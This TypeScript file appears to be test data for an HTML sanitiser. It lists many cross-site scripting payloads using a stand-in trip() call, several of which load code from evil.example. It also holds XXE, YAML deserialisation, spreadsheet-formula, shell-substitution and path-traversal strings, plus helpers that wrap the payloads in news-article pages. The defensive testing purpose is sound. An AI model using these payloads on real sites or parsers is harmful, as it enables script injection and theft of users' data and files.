/**
 * What attackers write into pages, by class, after the cheat sheets of OWASP and the test data of HTML sanitisers; each
 * in our own words. `trip` is what would run.
 */
export const VECTORS: Readonly<Record<string, readonly string[]>> = {
  'event handlers': [
    '<img src=x onerror=trip()>',
    '<img src=x:x onerror\n=\ntrip()>',
    '<img/src="x"/onerror="trip()">',
    '<body onload=trip()>',
    '<svg/onload=trip()>',
    '<details open ontoggle=trip()>Text</details>',
    '<video><source onerror=trip()></video>',
    '<audio src onerror=trip()>',
    '<marquee onstart=trip()>Text</marquee>',
    '<input autofocus onfocus=trip()>',
    '<p onpointerenter="trip()" ONCLICK=trip() style="animation:x" onanimationstart=trip()>Text</p>',
    '<a href="#" onmouseover&#61;"trip()">Text</a>',
    '<img """><script>trip()</script>">',
    '<p x"y\'z=`onclick=trip()`>Text</p>',
    '" onfocus="trip()" autofocus="',
    "' onfocus='trip()' autofocus='",
    '`onmouseover=trip()',
  ],
  scripts: [
    '<script>trip()</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>trip()</scr</script>ipt>',
    '<script/x src=data:,trip()></script>',
    '<<script>trip();//<</script>',
    '<script\n>trip()</script\n>',
    '<script src=//evil.example/x.js?<b>',
    '</script><script>trip()</script>',
    '<script type="module">import "https://evil.example/x.js"</script>',
    '<script type="application/ld+json">{"@type":"NewsArticle","headline":"</script><script>trip()</script>"}',
    '<!--<script>--><script>trip()</script>',
    '<![CDATA[<script>trip()</script>]]>',
    '\u2028<script>trip()</script>\u2029',
  ],
  addresses: [
    '<a href="javascript:trip()">Text</a>',
    '<a href=" \u0001javascript:trip()">Text</a>',
    '<a href="jav\tascript:trip()">Text</a>',
    '<a href="java\nscript\r:trip()">Text</a>',
    '<a href="&#106;&#x61;vascript&colon;trip()">Text</a>',
    '<a href="jav&#x09;ascript&#58;trip()">Text</a>',
    '<a href="JaVaScRiPt&Tab;:trip()">Text</a>',
    '<a href="javascript://example.org/%0Atrip()">Text</a>',
    '<a href="vbscript:trip()">Text</a>',
    '<a href="data:text/html,<script>trip()</script>">Text</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD50cmlwKCk8L3NjcmlwdD4=">Text</a>',
    '<a href="blob:https://example.org/1">Text</a>',
    '<a href="filesystem:https://example.org/temporary/x.html">Text</a>',
    '<a href="view-source:javascript:trip()">Text</a>',
    '<a href="file:///etc/passwd">Text</a>',
    '<a href="\u202ejavascript:trip()">Text</a>',
    '<a href="https://a.example/&quot;onclick=trip()//">Text</a>',
    '<a href="https://a.example/)[x](javascript:trip())">Text</a>',
    '<a href="https://user:pass@a.example/">Text</a>',
    '<a href="mailto:x@a.example?body=<script>trip()</script>">Text</a>',
    '<a xlink:href="javascript:trip()" ping="https://evil.example/" target="_top">Text</a>',
    '<img src="javascript:trip()" alt="Bild">',
    '<img src="data:text/html,<script>trip()</script>" alt="Bild">',
    '<img src="data:image/svg+xml,<svg onload=trip() xmlns=\'http://www.w3.org/2000/svg\'/>" alt="Bild">',
    '<img srcset="javascript:trip() 1x" lowsrc="javascript:trip()" dynsrc="javascript:trip()" alt="Bild">',
    '<img src="https://a.example/x.jpg?)](javascript:trip())" alt="](javascript:trip())">',
    '<img data-src="https://a.example/x.jpg&quot; onerror=&quot;trip()" alt=\'"><script>trip()</script>\'>',
    '<table background="javascript:trip()"><tr><td background="javascript:trip()">a</td><td>b</td></tr></table>',
    '<blockquote cite="javascript:trip()"><p>Text</p></blockquote><q cite="javascript:trip()">Text</q>',
  ],
  'drawings and formulas': [
    '<svg><script>trip()</script></svg>',
    '<svg><script href="data:,trip()"/></svg>',
    '<svg><a xlink:href="javascript:trip()"><text y="9">Text</text></a></svg>',
    '<svg><animate onbegin=trip() attributeName=x dur=1s>',
    '<svg><a><set attributeName="href" to="javascript:trip()"/><text>Text</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>trip()</script></svg>#x">',
    '<svg><foreignObject><iframe srcdoc="<script>trip()</script>"></iframe></foreignObject></svg>',
    '<svg><style><img src=x onerror=trip()></style></svg>',
    '<svg><title><p><style><!--</style><img src=x onerror=trip()>--></title></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=trip()>">',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:trip()">Text</maction></math>',
    '<math href="javascript:trip()">Text</math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=trip()&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=trip()>',
    '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=trip()">',
    '<math><annotation-xml encoding="text/html"><script>trip()</script></annotation-xml></math>',
    '<math><mi//xlink:href="data:x,<script>trip()</script>">',
    '<svg><desc><noscript><img title="</noscript><img src=x onerror=trip()>"></desc></svg>',
    '<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>trip()</x:script></svg>',
    `${'<div>'.repeat(70)}<svg><g>${'<font>'.repeat(20)}<img src=x onerror=trip()>`,
  ],
  breakouts: [
    '<template><script>trip()</script></template>',
    '<template><template><img src=x onerror=trip()></template></template>',
    '<noscript><p title="</noscript><img src=x onerror=trip()>">',
    '<noscript><img src=x onerror=trip()></noscript>',
    '<style></style><script>trip()</script><style></style>',
    '<style>@import "https://evil.example/x.css"; a::after { content: "</style><script>trip()</script>" }</style>',
    '</title><script>trip()</script>',
    '<title></title><img src=x onerror=trip()></title>',
    '<textarea></textarea><script>trip()</script></textarea>',
    '<textarea><img title="</textarea><img src=x onerror=trip()>">',
    '<xmp></xmp><img src=x onerror=trip()></xmp>',
    '<xmp><img title="</xmp><img src=x onerror=trip()>">',
    '<noembed><img title="</noembed><img src=x onerror=trip()>">',
    '<noframes><img title="</noframes><img src=x onerror=trip()>">',
    '<select><template><style><!--</select><img src=x onerror=trip()>--></style></template></select>',
    '<option><style></option></select><img src=x onerror=trip()></style>',
    '<plaintext><script>trip()</script>',
    '<!-- --!><img src=x onerror=trip()> -->',
    '<!--><img src=x onerror=trip()>-->',
    '<!-- <p title="--><img src=x onerror=trip()>">',
    '<![if IE]><script>trip()</script><![endif]>',
    '<!--[if gte IE 4]><script>trip()</script><![endif]-->',
    '<?xml version="1.0"?><?php trip() ?><script>trip()</script>',
    '<table><tr><td></table><script>trip()</script></td></tr>',
    '<p><a><table><a href="javascript:trip()">a</a><td>b</td></table>',
  ],
  'what loads or leads': [
    '<iframe src="javascript:trip()"></iframe>',
    '<iframe srcdoc="&lt;script&gt;trip()&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/" title="<script>trip()</script>"></iframe>',
    '<object data="javascript:trip()"></object><embed src="javascript:trip()">',
    '<object><param name=movie value="javascript:trip()"></object><applet code="x">',
    '<frameset><frame src="javascript:trip()"></frameset>',
    '<base href="javascript:trip()//">',
    '<base href="https://evil.example/"><a href="weiter">Text</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:trip()">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href="https://evil.example/">',
    '<link rel="prefetch" href="https://evil.example/">',
    '<form action="javascript:trip()"><button formaction="javascript:trip()">Los</button></form>',
    '<form id=f></form><button form=f formaction="javascript:trip()">Los</button>',
    '<isindex action="javascript:trip()" type=image>',
    '<input type=image src="javascript:trip()" formaction="javascript:trip()">',
    '<video poster="javascript:trip()" src="https://evil.example/x.mp4" autoplay></video>',
    '<portal src="https://evil.example/"></portal><fencedframe></fencedframe>',
    '<dialog open><slot name=x></slot><my-element onclick=trip()>Text</my-element></dialog>',
    '<p style="background:url(https://evil.example/x.png)">Text</p>',
    '<p style="width:expression(trip());-moz-binding:url(https://evil.example/x.xml#y)">Text</p>',
    '<style>body{background:url("javascript:trip()")}</style>',
    '<div style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example/">Text</a></div>',
  ],
  clobbering: [
    '<form id=x><input name=attributes><input name=parentNode></form>',
    '<form><input name=nodeName><input name=childNodes><input name=textContent></form>',
    '<img name=body><img name=head><img name=implementation><img name=createElement>',
    '<a id=defaultView></a><a id=defaultView name=x href="javascript:trip()"></a>',
    '<form name=documentElement></form><form name=getElementsByTagName></form>',
    '<p id="__proto__" class="constructor">Text</p><p id="klartext-reader" slot=x part=y is=z>Text</p>',
    '<form><input name=querySelectorAll><input name=localName><input name=hasAttribute></form>',
  ],
  markdown: [
    '[Text](javascript:trip())',
    '![Bild](javascript:trip() "x")',
    '[Text][1]\n\n[1]: javascript:trip()',
    '<javascript:trip()>',
    '[Text](<javascript:trip()>)',
    '[a]: data:text/html,<script>trip()</script>\n[a]',
    '```\n</code></pre><script>trip()</script>\n```',
    '`` ` ``<img src=x onerror=trip()>',
    '\\<img src=x onerror=trip()>',
    '    <script>trip()</script>',
    'a | b\n--|--\n<script>trip()</script> | x',
    '\n\n<div>\n\n<script>trip()</script>\n\n</div>\n\n',
    '[^1]: <img src=x onerror=trip()>',
    '<p><code>``</code><code><img src=x onerror=trip()></code></p>',
    '<pre>```\n&lt;script&gt;trip()&lt;/script&gt;\n````</pre>',
    '<table><tr><td>a|b</td><td>&lt;img src=x onerror=trip()&gt;</td></tr><tr><td>`|`</td><td>\\|</td></tr></table>',
    '<p>H<sub>2</sub>O<sup>&lt;img src=x onerror=trip()&gt;</sup><sub>&amp;lt;script&amp;gt;</sub></p>',
    '<p><a href="https://a.example/">](javascript:trip())[</a></p>',
    '[[Obsidian|javascript:trip()]] ![[x]] %%x%% {{x}} <% tp.x %> `= dv.x`',
  ],
  'front matter': [
    '---\ntitle: x\nscript: trip()\n---\n<script>trip()</script>',
    '\n---\n# x',
    '"\nurl: javascript:trip()\nx: "',
    "' # x\n? !!js/function 'trip()'",
    '!!python/object/apply:os.system ["trip"]',
    '&a [*a, *a]',
    '- x\n- y: {z: 1}',
    '| \n  x\n...\n---',
    '%YAML 1.1',
    '<<: *default',
    '\u0085---\u2028---',
  ],
  'names and lines': [
    '../../../.bashrc',
    '..\\..\\autostart\\x.bat',
    'x\r\nSet-Cookie: a=b\r\n\r\n<script>trip()</script>',
    'rechnung\u202efdp.exe',
    '\u2066\u2067Text\u2069\u202d',
    'con.txt',
    'x\u0000.html',
    '%2e%2e%2f%00 file:///etc/passwd',
    '=cmd|" /C calc"!A0',
    '$(trip) `trip` ;trip &trip |trip',
    '\ufeff\u200b\u2060\u00ad',
    '\ud800 \udfff \ufffe \u0007\u001b[2J\u009b',
    `A${'\u0300'.repeat(60)}`,
    `${'x'.repeat(300)}.html`,
  ],
  xml: [
    ']]><script>trip()</script><![CDATA[',
    '<!DOCTYPE x [<!ENTITY a "trip"><!ENTITY b SYSTEM "file:///etc/passwd">]>&a;&b;',
    '&xxe; &lt;script&gt;trip()&lt;/script&gt; &#0; &#x1f; &nbsp; &amp;amp;',
    '<?xml-stylesheet href="javascript:trip()"?>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">trip()</x:script>',
    '<p xmlns="http://www.w3.org/2000/svg" xml:base="javascript:trip()" epub:type="x">Text</p>',
    '<p xlink:href="a" :x="b" @click="trip()" v-on:click="trip()" {a}="b" 1="c">Text</p>',
    '<a:b c:d="e">Text</a:b><x"y>Text</x"y>',
    '-- > --> <!-- ',
  ],
};

export const PROSE =
  'Die Werften an der Ostsee haben wieder volle Auftragsbücher, doch die Banken zögern seit Monaten mit den Krediten. ';

/** Text in an attribute or between tags, as a page writes it that means what it says. */
export const escapeText = (text: string): string =>
  text.replaceAll(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);

/** Data of a script element, as pages write it that know how. */
const toData = (value: unknown): string => JSON.stringify(value).replaceAll('<', '\\u003c');

/** An article page on which an attacker could write what text comes from: in words, attributes and data. */
export function writeHostileWords(words: string): string {
  const text = escapeText(words);
  const data = {
    '@context': 'https://schema.org',
    '@type': 'NewsArticle',
    headline: words,
    description: words,
    articleSection: words,
    author: [{ name: words }, words, { '@id': words }],
    datePublished: words,
    image: { author: words, creditText: words },
    publisher: { name: words },
    inLanguage: words,
    mainEntityOfPage: { '@id': words },
    hasPart: { isAccessibleForFree: false, cssSelector: words },
  };
  const facts = [
    'og:title',
    'og:site_name',
    'og:url',
    'og:locale',
    'article:section',
    'author',
    'description',
  ];
  return `<!doctype html><html lang="${text}"><head><title>${text}</title>
    <link rel="canonical" href="${text}">${facts.map((name) => `<meta property="${name}" content="${text}">`).join('')}
    <script type="application/ld+json">${toData(data)}</script></head><body><main><article>
    <h1>${text}</h1><p class="lead">${text} ${PROSE}</p><p class="byline">Von ${text}</p>
    <time datetime="${text}">${text}</time>
    <figure><img src="https://example.org/a.jpg?${text}" alt="${text}" title="${text}"
      srcset="${text} 9w"><figcaption>${text} Foto: ${text}</figcaption></figure>
    <p>${PROSE.repeat(3)}</p><p>${text}</p><h2>${text}</h2><p><a href="${text}" title="${text}">${text}</a> ${PROSE}</p>
    <p><a href="https://example.org/${text}">Adresse</a> <code>${text}</code> H<sub>${text}</sub> ${PROSE}</p>
    <ul><li>${text}</li><li>zwei ${PROSE}</li></ul><pre>${text}</pre><blockquote><p>${text}</p></blockquote>
    <table><caption>${text}</caption><thead><tr><th colspan="${text}">${text}</th><th>b</th></tr></thead>
    <tr><td rowspan="${text}" headers="${text}">${text}</td><td>d</td></tr></table>
    <iframe src="https://evil.example/${text}" title="${text}"></iframe>
    <p>${PROSE.repeat(3)}</p><aside class="related-box ${text}"><p>Mehr dazu: ${text}</p></aside></article></main></body></html>`;
}

/** An article page that holds the attacker's markup as it is: in, between and behind its paragraphs and boxes. */
export function writeHostileMarkup(markup: string): string {
  const paragraph = `<p>${PROSE.repeat(3)}</p>`;
  return `<!doctype html><html lang="de"><head><title>Werften an der Ostsee</title></head><body><main><article>
    <h1>Werften an der Ostsee</h1>${paragraph}<aside class="related-box"><p>Anderswo ${markup}</p></aside>
    <p>${PROSE}${markup}</p>${paragraph}${markup}<ul><li>${markup}</li></ul><p>Ende</p></article></main></body></html>`;
}
